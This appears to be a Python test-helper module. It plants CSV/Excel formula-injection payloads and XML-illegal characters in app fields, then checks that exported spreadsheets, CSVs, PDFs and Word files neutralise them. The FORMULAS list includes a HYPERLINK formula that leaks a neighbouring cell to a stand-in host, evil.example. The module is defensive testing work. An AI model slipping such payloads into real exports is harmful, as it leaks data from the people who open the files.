"""Hostile stored text for the export tests, and how each kind of file is read back and judged.

`Hostile.text(field)` makes one field's text: a formula payload first (the attacks of issue 14:
a HYPERLINK that leaks a neighbouring cell, +1+1, -2+3, @SUM(A1), a tab or carriage return
before =), then a tag unique to the field with characters XML cannot carry spliced into it
("zq07" + U+FFFE U+FFFF + "zq"). Text columns cannot hold a lone surrogate (SQLite and
PostgreSQL encode text as UTF-8), so `json=True` fields (report sections, key findings,
practice-week answers) carry U+D800 instead. A writer that survives drops the characters and
shows the tag whole ("zq07zq"): `Hostile.safe(field)` is what a reader must find.

The judges read files as the people who download them would (openpyxl, the csv module, pypdf,
python-docx) and return the problems found, so one assertion reports every bad cell."""

import csv
import io
import re

import pypdf
from openpyxl import load_workbook

from qa_app.documents.docx_base import docx_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
SHORT_FORMULA = "-2+3"  # for columns of 30 characters or fewer
# (none of them a line break to str.splitlines, which some builders split paragraphs with)
TEXT_CHARACTERS = ["\ufffe\uffff", "\x07", "\x01\x1b\x7f"]
JSON_CHARACTERS = ["\ud800", "\ufffe\uffff", "\x07\udfff"]
# The characters XML 1.0 cannot carry, written out here rather than imported, so the test does
# not trust the rule it checks.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
FORMULA_FIRST = "=+-@\t\r"
FORMULA_AFTER_SPACE = "=+-@\uff1d\uff0b\uff0d\uff20"


class Hostile:
    """The hostile texts planted in one test's data, by field."""

    def __init__(self):
        self.planted: dict[str, str] = {}

    def text(self, field: str, *, json: bool = False, short: bool = False) -> str:
        n = len(self.planted)
        characters = (JSON_CHARACTERS if json else TEXT_CHARACTERS)[n % 3]
        formula = SHORT_FORMULA if short else FORMULAS[n % len(FORMULAS)]
        self.planted[field] = f"zq{n:02d}zq"
        return f"{formula} zq{n:02d}{characters}zq"

    def safe(self, field: str) -> str:
        return self.planted[field]

    def missing(self, text: str, fields) -> list[str]:
        """The fields whose safe tag is not in `text`."""
        return [f"{f} ({self.safe(f)}) is missing" for f in fields if self.safe(f) not in text]


def formula_like(text: str) -> bool:
    first, after_space = text[:1], text.lstrip()[:1]
    return bool(first) and (first in FORMULA_FIRST or (after_space or "x") in FORMULA_AFTER_SPACE)


def xlsx_cells(data: bytes) -> dict[str, object]:
    """Every cell of every sheet: {"Sheet!A1": cell}."""
    book = load_workbook(io.BytesIO(data))
    return {
        f"{sheet.title}!{cell.coordinate}": cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def xlsx_problems(data: bytes) -> list[str]:
    """No cell is a formula; text that looks like one is a string cell with the quote prefix
    (so editing it in Excel keeps it text); no text holds a character XML cannot carry."""
    problems = []
    for where, cell in xlsx_cells(data).items():
        if cell.data_type == "f":
            problems.append(f"{where} is a formula: {cell.value!r}")
        elif isinstance(cell.value, str):
            if formula_like(cell.value) and not (cell.data_type == "s" and cell.quotePrefix):
                problems.append(f"{where} would be read as a formula: {cell.value!r}")
            if XML_ILLEGAL.search(cell.value):
                problems.append(f"{where} holds a character XML cannot carry: {cell.value!r}")
    return problems


def xlsx_text(data: bytes) -> str:
    return " ".join(str(c.value) for c in xlsx_cells(data).values())


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_problems(data: bytes) -> list[str]:
    """No field would be read as a formula (one that looked like it starts with a quote)."""
    problems = []
    for r, row in enumerate(csv_rows(data), start=1):
        for c, field in enumerate(row, start=1):
            if formula_like(field):
                problems.append(f"row {r}, field {c} would be read as a formula: {field!r}")
            if XML_ILLEGAL.search(field):
                problems.append(f"row {r}, field {c} holds {field!r}")
    return problems


def pdf_text(data: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


def word_text(data: bytes) -> str:
    return docx_text(data)
